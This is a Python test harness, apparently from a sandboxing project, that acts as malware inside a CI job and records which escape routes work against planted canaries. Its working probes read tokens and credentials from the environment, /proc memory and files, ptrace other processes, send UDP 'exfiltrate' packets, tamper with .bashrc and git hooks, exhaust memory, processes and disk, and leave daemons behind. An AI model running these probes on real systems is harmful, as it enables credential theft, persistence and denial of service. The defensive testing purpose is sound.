"""A scanner that has been replaced by malware: tries every channel and prints what it got.

Started as `hostile.py <json>`, the JSON being what malware would know or guess: process ids and
paths of the stand-ins that the test has planted. Prints one JSON object of probe to what was
obtained; an empty string means nothing. `mode` selects probes that end or outlive the process.
"""
import ctypes
import errno
import glob
import json
import os
import signal
import socket
import struct
import subprocess
import sys
import time

CANARY = b'CANARY-' + b'7f3a'
known = json.loads(sys.argv[1])
libc = ctypes.CDLL(None, use_errno=True)
ARM = os.uname().machine == 'aarch64'
PROBES = {}
# Where nothing confines it, a probe that would harm the machine is left out.
NOT_TRIED = 'not tried'


def probe(function):
    PROBES[function.__name__] = function
    return function


def number(x86, arm):
    return arm if ARM else x86


def call(nr, *arguments):
    result = libc.syscall(ctypes.c_long(nr), *[ctypes.c_void_p(a) if isinstance(a, int) else a for a in arguments])
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def read(path, limit=1 << 20):
    with open(path, 'rb') as file:
        return file.read(limit)


def holds(data):
    return 'canary' if CANARY in data else ''


def any_file(paths):
    for path in paths:
        try:
            if CANARY in read(path):
                return path
        except OSError:
            pass
    return ''


def append(path, text):
    with open(path, 'a') as file:
        file.write(text)
    return path


def processes():
    return [int(name) for name in os.listdir('/proc') if name.isdigit() and int(name) != os.getpid()]


# --- what could be read ---

@probe
def r01_env():
    return holds(repr(dict(os.environ)).encode())


@probe
def r02_oidc_token():
    return os.environ.get('ACTIONS_ID_TOKEN_REQUEST_TOKEN', '')


@probe
def r03_cache_token():
    return os.environ.get('ACTIONS_RUNTIME_TOKEN', '')


@probe
def r04_proc_environ():
    return any_file(['/proc/%d/environ' % pid for pid in processes()])


@probe
def r05_proc_mem():
    for line in read('/proc/%d/maps' % known['worker']).decode().splitlines():
        if ' rw-p ' not in line:
            continue
        start, end = (int(part, 16) for part in line.split()[0].split('-'))
        if end - start > 64 << 20:
            continue
        try:
            with open('/proc/%d/mem' % known['worker'], 'rb') as memory:
                memory.seek(start)
                if CANARY in memory.read(end - start):
                    return line
        except (OSError, ValueError):
            pass
    return ''


class Vector(ctypes.Structure):
    _fields_ = [('base', ctypes.c_void_p), ('length', ctypes.c_size_t)]


@probe
def r06_process_vm_readv():
    buffer = ctypes.create_string_buffer(16)
    local = Vector(ctypes.cast(buffer, ctypes.c_void_p).value, 16)
    remote = Vector(known['address'], 16)
    got = libc.syscall(ctypes.c_long(number(310, 270)), known['worker'], ctypes.byref(local), ctypes.c_ulong(1), ctypes.byref(remote), ctypes.c_ulong(1), ctypes.c_ulong(0))
    return 'read %d bytes' % got if got > 0 else ''


@probe
def r07_ptrace_attach():
    if libc.ptrace(16, known['worker'], None, None) != 0:
        return ''
    os.waitpid(known['worker'], 0)
    libc.ptrace(17, known['worker'], None, None)
    return 'attached'


@probe
def r08_proc_root():
    return any_file(['/proc/%d/root%s/.npmrc' % (pid, known['home']) for pid in processes() + [known['worker']]])


@probe
def r09_sudo():
    done = subprocess.run(['sudo', '-n', 'id', '-u'], capture_output=True, timeout=10)
    return done.stdout.decode().strip() if done.returncode == 0 else ''


@probe
def r10_home_credentials():
    return any_file([os.path.join(known['home'], name) for name in known['credentials']])


@probe
def r11_git_config_token():
    return any_file([os.path.join(known['workspace'], path) for path in ('.git/config', 'nested/.git/config', '.git/modules/sub/config')])


@probe
def r12_runner_temp_credentials():
    return any_file(glob.glob(known['runnerTemp'] + '/git-credentials-*.config'))


@probe
def r13_workspace_credential_files():
    return any_file(glob.glob(known['workspace'] + '/gha-creds-*.json') + [known['workspace'] + '/.npmrc', known['workspace'] + '/.docker/config.json'])


@probe
def r14_event_json():
    return any_file([known['event']])


@probe
def r15_inherited_descriptor():
    found = []
    for descriptor in range(3, 256):
        try:
            # The null device in place of a descriptor leads nowhere.
            if os.fstat(descriptor).st_rdev != os.makedev(1, 3):
                found.append(descriptor)
        except OSError:
            pass
    return str(found) if found else ''


@probe
def r16_keyring():
    key = libc.syscall(ctypes.c_long(number(250, 219)), ctypes.c_int(10), ctypes.c_int(-4), b'user', b'bartizan_canary', ctypes.c_int(0))
    if key < 0:
        return ''
    buffer = ctypes.create_string_buffer(64)
    got = libc.syscall(ctypes.c_long(number(250, 219)), ctypes.c_int(11), ctypes.c_int(key), buffer, ctypes.c_size_t(64))
    return 'key' if got > 0 and CANARY in buffer.raw else ''


@probe
def r17_sysv_shared_memory():
    segment = libc.shmget(ctypes.c_int(known['segmentKey']), ctypes.c_size_t(0), ctypes.c_int(0))
    if segment < 0:
        return ''
    libc.shmat.restype = ctypes.c_void_p
    address = libc.shmat(segment, None, 0o10000)
    return holds(ctypes.string_at(address, 16)) if address not in (None, ctypes.c_void_p(-1).value) else ''


@probe
def r18_shared_temporary_files():
    return any_file(glob.glob('/dev/shm/*') + glob.glob('/tmp/*') + known['temporary'])


@probe
def r19_other_results():
    return any_file([known['otherResult']])


@probe
def r20_own_parent():
    """Whatever starts the scanner may itself hold secrets."""
    parent = os.getppid()
    return any_file(['/proc/%d/environ' % parent, '/proc/%d/cmdline' % parent]) if parent > 0 else ''


@probe
def r21_kernel_log():
    return read('/dev/kmsg', 1).decode() if os.access('/dev/kmsg', os.R_OK) else ''


@probe
def r22_users_of_the_machine():
    return 'passwd' if b':/home' in read('/etc/passwd') or b'root:' in read('/etc/passwd') else ''


@probe
def r23_open_file_by_handle():
    """`shocker`: a file by its handle, past every mount."""
    class Handle(ctypes.Structure):
        _fields_ = [('bytes', ctypes.c_uint), ('type', ctypes.c_int), ('data', ctypes.c_ubyte * 128)]
    handle, mount = Handle(128), ctypes.c_int()
    if libc.name_to_handle_at(-100, b'/usr', ctypes.byref(handle), ctypes.byref(mount), 0) != 0:
        return ''
    directory = os.open('/', os.O_RDONLY)
    opened = libc.open_by_handle_at(directory, ctypes.byref(handle), os.O_RDONLY)
    return 'opened' if opened >= 0 else ''


@probe
def r24_open_files_of_others():
    return any_file(glob.glob('/proc/%d/fd/*' % known['worker']))


@probe
def r25_environment_of_bartizan():
    """The kernel shows with what a process was started, whatever it has deleted since."""
    return any_file(['/proc/%d/environ' % known['bartizan'], '/proc/%d/task/%d/environ' % (known['bartizan'], known['bartizan'])])


@probe
def r26_memory_of_bartizan():
    with open('/proc/%d/mem' % known['bartizan'], 'rb'):
        return 'opened'


@probe
def r27_private_keys_of_the_machine():
    return next((path for path in glob.glob('/etc/ssl/private/*') + glob.glob('/etc/pki/tls/private/*') if os.access(path, os.R_OK)), '')


@probe
def r28_secrets_in_argument_lists():
    return any_file(['/proc/%d/cmdline' % pid for pid in processes()])


# --- the network and sockets ---

def tcp(address, port):
    with socket.create_connection((address, port), 2) as connection:
        connection.sendall(b'GET / HTTP/1.0\r\n\r\n')
        return holds(connection.recv(1000))


@probe
def n01_tcp_egress():
    return tcp(known['address4'], known['port'])


@probe
def n02_udp():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
        udp.settimeout(2)
        udp.sendto(b'exfiltrate', (known['address4'], known['udpPort']))
        return holds(udp.recv(100))


@probe
def n03_metadata_address():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
        udp.connect(('169.254.169.254', 80))
        return 'route to 169.254.169.254'


@probe
def n04_loopback():
    return tcp('127.0.0.1', known['port'])


@probe
def n05_docker_socket():
    with socket.socket(socket.AF_UNIX) as connection:
        connection.settimeout(2)
        connection.connect(known['dockerSocket'])
        return holds(connection.recv(100))


@probe
def n06_ssh_agent():
    with socket.socket(socket.AF_UNIX) as connection:
        connection.settimeout(2)
        connection.connect(os.environ.get('SSH_AUTH_SOCK') or known['agentSocket'])
        return holds(connection.recv(100))


@probe
def n07_abstract_socket():
    with socket.socket(socket.AF_UNIX) as connection:
        connection.settimeout(2)
        connection.connect('\0' + known['abstract'])
        return holds(connection.recv(100))


@probe
def n08_other_families():
    for name, family, kind in (('vsock', 40, socket.SOCK_STREAM), ('alg', 38, socket.SOCK_SEQPACKET), ('packet', 17, socket.SOCK_RAW), ('bluetooth', 31, socket.SOCK_RAW), ('can', 29, socket.SOCK_RAW)):
        try:
            socket.socket(family, kind, 0).close()
            return name
        except OSError as error:
            if error.errno not in (errno.EAFNOSUPPORT, errno.EPERM, errno.EACCES, errno.EPROTONOSUPPORT, errno.ESOCKTNOSUPPORT):
                return name
    return ''


@probe
def n09_raw_socket():
    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).sendto(b'\x08\0\xf7\xff\0\0\0\0', (known['address4'], 0))
    return 'sent'


@probe
def n10_dns():
    return str(socket.getaddrinfo('localhost', known['port'])[0][4]) and tcp('localhost', known['port'])


@probe
def n11_ipv6_loopback():
    return tcp('::1', known['port'])


@probe
def n12_workspace_socket():
    """Of a process of the job that listens there, as git's file system monitor does."""
    with socket.socket(socket.AF_UNIX) as connection:
        connection.settimeout(2)
        connection.connect(known['workspaceSocket'])
        return holds(connection.recv(100))


@probe
def n13_socket_deep_in_the_workspace():
    with socket.socket(socket.AF_UNIX) as connection:
        connection.settimeout(2)
        # The path of a socket is short.
        os.chdir(os.path.dirname(known['deepSocket']))
        connection.connect(os.path.basename(known['deepSocket']))
        return holds(connection.recv(100))


@probe
def n14_protocols_that_load_modules():
    for name, kind, protocol in (('sctp', socket.SOCK_STREAM, 132), ('mptcp', socket.SOCK_STREAM, 262), ('udplite', socket.SOCK_DGRAM, 136), ('dccp', 6, 0)):
        try:
            socket.socket(socket.AF_INET, kind, protocol).close()
            return name
        except OSError as error:
            if error.errno not in (errno.EPROTONOSUPPORT, errno.ESOCKTNOSUPPORT, errno.EPERM, errno.EACCES):
                return name
    return ''


@probe
def n15_other_netlink():
    for protocol in (4, 6, 9, 12, 15):
        try:
            socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, protocol).close()
            return 'netlink %d' % protocol
        except OSError:
            pass
    return ''


# --- what could be changed ---

@probe
def t01_command_files():
    return append(known['commandFile'], 'PWN=1\n')


@probe
def t02_workspace_source():
    return append(known['workspace'] + '/main.py', '# changed\n')


@probe
def t03_git_hooks():
    return append(known['workspace'] + '/.git/hooks/post-checkout', '#!/bin/sh\n')


@probe
def t04_git_config():
    return append(known['workspace'] + '/.git/config', '[core]\n\tfsmonitor = evil\n')


@probe
def t05_node_modules():
    return append(known['workspace'] + '/node_modules/.bin/tool', 'evil\n')


@probe
def t06_action_code():
    return append(known['actionCode'], 'evil\n')


@probe
def t07_tool_cache():
    return append(known['toolCache'], 'evil\n')


@probe
def t08_system_files():
    return append('/usr/share/bartizan-canary-' + str(known['nonce']), 'evil\n')


@probe
def t09_shell_start_files():
    return append(known['home'] + '/.bashrc', 'evil\n')


@probe
def t10_runner_script():
    return append(known['runnerTemp'] + '/step.sh', 'evil\n')


@probe
def t11_own_program():
    return append(os.path.realpath(__file__), '\n')


@probe
def t12_other_results():
    return append(known['otherResult'], ' ')


@probe
def t13_signal_worker():
    os.kill(known['worker'], signal.SIGCONT)
    return 'signalled'


@probe
def t15_link_out():
    """A link in place of a result, for whoever reads it outside."""
    for directory in known['outside']:
        try:
            os.symlink(known['home'] + '/.npmrc', directory + '/link-out')
            return directory
        except OSError:
            pass
    return ''


@probe
def t16_hard_link_out():
    for directory in known['outside'] + [os.environ.get('TMPDIR', '/tmp')]:
        try:
            os.link(known['home'] + '/.npmrc', directory + '/hard-out')
            return directory
        except OSError:
            pass
    return ''


@probe
def t17_interpreter_start_files():
    """A `.pth` file runs at every start of Python."""
    if not known['confined']:
        return NOT_TRIED
    for directory in known['sitePackages']:
        try:
            return append(directory + '/bartizan_canary.pth', 'import os\n')
        except OSError:
            pass
    return ''


@probe
def t18_priority_of_others():
    os.setpriority(os.PRIO_PROCESS, known['worker'], 19)
    return 'reniced'


@probe
def t19_process_limits_of_others():
    import resource
    resource.prlimit(known['worker'], resource.RLIMIT_CORE, (0, 0))
    return 'limited'


@probe
def t21_workspace_pipe():
    """A mount that is read-only does not keep anybody from writing to a pipe in it."""
    descriptor = os.open(known['workspacePipe'], os.O_WRONLY | os.O_NONBLOCK)
    os.write(descriptor, b'evil\n')
    return 'written'


@probe
def t22_message_queue_of_others():
    queue = libc.mq_open(known['queue'].encode(), os.O_WRONLY | os.O_NONBLOCK) if hasattr(libc, 'mq_open') else -1
    return 'opened' if queue >= 0 else ''


@probe
def t23_semaphores_of_others():
    return 'opened' if libc.semget(ctypes.c_int(known['segmentKey']), 0, 0) >= 0 else ''


@probe
def t24_processors_of_others():
    os.sched_setaffinity(known['worker'], os.sched_getaffinity(known['worker']))
    return 'bound'


@probe
def t25_control_groups():
    for path in glob.glob('/sys/fs/cgroup/**/cgroup.procs', recursive=True)[:200] + glob.glob('/sys/fs/cgroup/*/release_agent'):
        if os.access(path, os.W_OK):
            return path
    return ''


@probe
def t26_binary_formats():
    return 'register' if os.access('/proc/sys/fs/binfmt_misc/register', os.W_OK) else ''


@probe
def t27_score_for_the_killer():
    """Whom the kernel ends first when memory is short."""
    return append('/proc/%d/oom_score_adj' % known['worker'], '')


# --- the kernel ---

@probe
def k01_user_namespace():
    if libc.unshare(0x10000000) != 0:
        raise OSError(ctypes.get_errno(), 'unshare')
    return 'unshared'


@probe
def k02_remount():
    if not known['confined']:
        return NOT_TRIED
    for target in ('/', '/usr', known['workspace']):
        if libc.mount(None, target.encode(), None, 32 | 4096, None) == 0:
            return 'remounted ' + target
        if libc.umount2(target.encode(), 2) == 0:
            return 'unmounted ' + target
    return ''


@probe
def k03_risky_calls():
    for name, numbers, arguments in (
        ('io_uring_setup', (425, 425), (1, ctypes.create_string_buffer(256))),
        ('userfaultfd', (323, 282), (1,)),
        ('add_key', (248, 217), (b'user', b'probe', b'x', 1, 0xfffffffd)),
        ('bpf', (321, 280), (0, ctypes.create_string_buffer(256), 128)),
        ('perf_event_open', (298, 241), (ctypes.create_string_buffer(b'\x01\0\0\0\x80' + b'\0' * 123, 128), 0, 0xffffffffffffffff, 0xffffffffffffffff, 0)),
    ):
        try:
            call(number(*numbers), *arguments)
            return name
        except OSError as error:
            if error.errno not in (errno.EPERM, errno.ENOSYS, errno.EACCES):
                return name
    return ''


@probe
def k04_no_new_privileges():
    return '' if libc.prctl(39, 0, 0, 0, 0) == 1 else 'new privileges are possible'


@probe
def k05_namespace_by_clone():
    for name, flag in (('user', 0x10000000), ('mount', 0x20000), ('network', 0x40000000)):
        try:
            child = call(number(56, 220), flag | signal.SIGCHLD, 0, 0, 0, 0)
        except OSError:
            continue
        if child == 0:
            os._exit(0)
        os.waitpid(child, 0)
        return name
    return ''


@probe
def k06_namespace_by_clone3():
    arguments = struct.pack('11Q', 0x10000000, 0, 0, 0, signal.SIGCHLD, 0, 0, 0, 0, 0, 0)
    child = call(435, ctypes.create_string_buffer(arguments, 88), 88)
    if child == 0:
        os._exit(0)
    os.waitpid(child, 0)
    return 'clone3'


@probe
def k07_terminal_input():
    if not known['confined']:
        return NOT_TRIED
    import fcntl
    for path in ('/dev/tty', '/dev/console', '/dev/pts/0'):
        try:
            with open(path) as terminal:
                fcntl.ioctl(terminal, 0x5412, b'x')
                return path
        except OSError:
            pass
    return ''


@probe
def k08_devices():
    for path in ('/dev/mem', '/dev/kvm', '/dev/fuse', '/dev/net/tun', '/dev/sda', '/dev/vda', '/dev/vsock'):
        try:
            os.close(os.open(path, os.O_RDWR))
            return path
        except OSError:
            pass
    return ''


@probe
def k09_kernel_settings():
    return append('/proc/sys/kernel/core_pattern', '') if os.access('/proc/sys/kernel/core_pattern', os.W_OK) else ''


@probe
def k12_sysctl_of_any_kind():
    for path in glob.glob('/proc/sys/*/*') + glob.glob('/proc/sys/fs/*/*') + ['/proc/sysrq-trigger', '/proc/irq/default_smp_affinity', '/proc/mtrr']:
        try:
            os.close(os.open(path, os.O_WRONLY))
            return path
        except OSError:
            pass
    return ''


@probe
def k10_other_architecture():
    """Calls of the x32 interface have numbers that a careless filter does not know."""
    if ARM:
        return ''
    libc.syscall(ctypes.c_long(0x40000000 | 39))
    return '' if ctypes.get_errno() == errno.ENOSYS else 'x32'


@probe
def k11_capabilities():
    import re
    status = read('/proc/self/status').decode()
    return '' if re.search(r'^CapEff:\s+0+$', status, re.M) else re.search(r'^CapEff:.*', status, re.M).group()


@probe
def k13_risky_calls_for_others():
    for name, numbers, arguments in (
        ('pidfd_getfd', (438, 438), (0, 0, 0)),
        ('process_madvise', (440, 440), (0, 0, 0, 0, 1)),
        ('kcmp', (312, 272), (os.getpid(), os.getpid(), 0, 0, 0)),
        ('open_tree', (428, 428), (0xffffffffffffff9c, b'/', 1)),
        ('fsopen', (430, 430), (b'tmpfs', 0)),
        ('move_mount', (429, 429), (0, b'', 0, b'', 0)),
        ('mount_setattr', (442, 442), (0xffffffffffffff9c, b'/', 0, 0, 0)),
        ('keyctl', (250, 219), (0, 0xfffffffd, 1)),
        ('quotactl_fd', (443, 443), (0, 0, 0, 0)),
        ('process_vm_writev', (311, 271), (os.getpid(), 0, 0, 0, 0, 0)),
        ('a call of the future', (4000, 4000), ()),
    ):
        try:
            call(number(*numbers), *arguments)
            return name
        except OSError as error:
            if error.errno not in (errno.EPERM, errno.ENOSYS, errno.EACCES):
                return name
    return ''


@probe
def k14_watch_files():
    """What others do with files that both see."""
    watcher = libc.inotify_init1(os.O_NONBLOCK)
    if watcher < 0:
        return ''
    return 'watching' if libc.inotify_add_watch(watcher, b'/usr/bin', 0x20) >= 0 else ''


@probe
def k15_terminal_by_inheritance():
    """Whatever stands behind the descriptors, the request itself is refused."""
    if not known['confined']:
        return NOT_TRIED
    for request in (0x5412, 0x541c):
        if libc.ioctl(0, ctypes.c_ulong(request), b'x') == 0 or ctypes.get_errno() != errno.EPERM:
            return hex(request)
    return ''


@probe
def k16_mounts_that_propagate():
    return '\n'.join(line for line in read('/proc/self/mountinfo').decode().splitlines() if ' shared:' in line)[:200]


@probe
def k17_calls_of_another_machine():
    """`int 0x80` has the numbers of 32-bit Linux: getpid is 20 there."""
    if ARM:
        return ''
    import mmap
    code = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    code.write(b'\xb8\x14\0\0\0\xcd\x80\xc3')
    function = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(code)))
    got = function()
    return 'pid %d' % got if got > 0 else ''


@probe
def k18_tracing_a_sibling():
    """Confined programs must not look into each other, should two share anything."""
    child = os.fork()
    if child == 0:
        time.sleep(5)
        os._exit(0)
    try:
        return 'attached' if libc.ptrace(16, child, None, None) == 0 else ''
    finally:
        os.kill(child, signal.SIGKILL)


# --- denial of service ---

def d01_memory():
    blocks = []
    for _ in range(3 * 16):
        blocks.append(bytearray(b'x') * (64 << 20))
    return '%d MiB' % (64 * len(blocks))


def d04_memory_of_many():
    """Each of them within the limit of one; all have it at the same time, for longer than a watchdog may sleep."""
    reader, writer = os.pipe()
    for _ in range(6):
        if os.fork() == 0:
            block = bytearray(b'x') * (400 << 20)
            os.write(writer, b'x')
            time.sleep(30)
            os._exit(len(block) & 0)
    os.close(writer)
    have = 0
    while have < 6:
        got = len(os.read(reader, 6))
        if got == 0:
            return ''
        have += got
    time.sleep(4)
    return '2400 MiB'


def d02_forks():
    for count in range(1500):
        try:
            if os.fork() == 0:
                time.sleep(4)
                os._exit(0)
        except OSError:
            return ''
    return '1500 processes'


def d03_disk():
    written = 0
    for directory in [os.environ.get('TMPDIR', '/tmp'), os.environ.get('HOME', '/')]:
        for index in range(6):
            try:
                with open(directory + '/fill-%d' % index, 'wb') as file:
                    for _ in range(100):
                        file.write(b'x' * (1 << 20))
                        written += 1
            except OSError:
                break
    return '%d MiB' % written if written >= 600 else ''


def d05_open_files():
    import resource
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    opened = []
    try:
        for _ in range(20000):
            opened.append(os.open('/dev/null', os.O_RDONLY))
    except OSError:
        return ''
    return '20000 files'


def t14_daemon():
    """Leaves three daemons behind: a plain child, one in its own session, one without our environment."""
    for kind in range(3):
        if os.fork() != 0:
            continue
        if kind > 0:
            os.setsid()
        if os.fork() != 0:
            os._exit(0)
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        signal.signal(signal.SIGHUP, signal.SIG_IGN)
        os.close(1)
        os.close(2)
        nonce = 'daemon-%s' % known['nonce']
        environment = {} if kind == 2 else dict(os.environ)
        os.execve('/bin/sh', ['sh', '-c', 'sleep 60; : ' + nonce], environment)
    time.sleep(1)
    if known.get('hang'):
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        time.sleep(60)
    return ''


SINGLE = {function.__name__: function for function in (d01_memory, d02_forks, d03_disk, d04_memory_of_many, d05_open_files, t14_daemon)}


def attempt(function):
    """In a process of its own, so that one that is killed ends no other."""
    reader, writer = os.pipe()
    child = os.fork()
    if child == 0:
        signal.alarm(8)
        try:
            text = str(function())
        except BaseException as error:
            text = '' if isinstance(error, (OSError, subprocess.SubprocessError, MemoryError)) else '?%r' % error
        os.write(writer, text.encode()[:4000])
        os._exit(0)
    os.close(writer)
    with os.fdopen(reader, 'rb') as pipe:
        text = pipe.read().decode('utf-8', 'replace')
    os.waitpid(child, 0)
    return text


if known.get('mode'):
    print(json.dumps({known['mode']: SINGLE[known['mode']]()}))
else:
    # The inherited descriptors are those of this process, before it has any of its own.
    results = {'r15_inherited_descriptor': PROBES.pop('r15_inherited_descriptor')()}
    results.update((name, attempt(function)) for name, function in PROBES.items())
    print(json.dumps(results))
